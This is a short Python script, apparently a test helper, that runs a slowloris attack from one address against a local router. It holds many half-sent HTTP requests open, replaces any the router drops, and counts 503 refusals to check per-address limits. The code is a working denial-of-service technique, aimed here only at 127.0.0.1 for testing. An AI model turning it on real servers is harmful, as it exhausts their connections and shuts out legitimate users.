"""A slowloris from one address: opens N connections from FROM to the router, each with half a request
line, and whenever the router closes a held one (its head deadline passed) opens another in its place.

Prints how many connections it opened and how many the router refused at once, when its standard input closes.
Usage: python3 slowloris.py N FROM PORT
"""
import selectors
import socket
import sys
import threading

n, source, port = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
opened = refused = 0
stop = threading.Event()


def connect():
    global opened
    s = socket.socket()
    s.bind((source, 0))
    s.connect(("127.0.0.1", port))
    try:
        s.sendall(b"GET / HT")
    except OSError:
        pass
    opened += 1
    return s


threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
watch = selectors.DefaultSelector()
for _ in range(n):
    watch.register(connect(), selectors.EVENT_READ)
while not stop.is_set():
    for key, _ in watch.select(0.5):
        s = key.fileobj
        try:
            answer = s.recv(4096)
        except OSError:
            answer = b""
        watch.unregister(s)
        s.close()
        if answer.startswith(b"HTTP/1.1 503"):
            refused += 1  # refused at once: this address holds its share already
        else:
            watch.register(connect(), selectors.EVENT_READ)
print("opened %d refused %d" % (opened, refused), flush=True)
